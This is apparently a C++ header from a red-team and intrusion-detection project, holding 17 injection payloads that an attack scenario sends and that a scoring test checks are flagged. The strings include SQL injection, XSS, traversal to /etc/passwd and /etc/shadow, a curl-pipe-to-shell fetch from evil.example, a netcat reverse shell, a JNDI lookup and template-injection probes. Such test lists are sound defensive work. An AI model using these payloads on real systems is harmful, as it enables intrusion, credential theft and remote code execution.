// The red team's injection payloads (issue 11): what `medmesh attack`'s injection scenario sends
// (scenarios.cc), and what the payload scoring test checks are flagged
// (ids/payload_scoring_test.cc), one list for both. SQL injection, XSS, traversal, command
// injection, a JNDI lookup, and server-side template / expression-language injection in its four
// common shapes. Header only, no dependencies.
#pragma once

#include <array>
#include <string_view>

namespace medmesh::attack {

inline constexpr std::array<std::string_view, 17> kInjectionPayloads = {
    "' OR '1'='1' --",
    "admin'--",
    "1; DROP TABLE readings; --",
    "' UNION SELECT token FROM sessions --",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
};

}  // namespace medmesh::attack
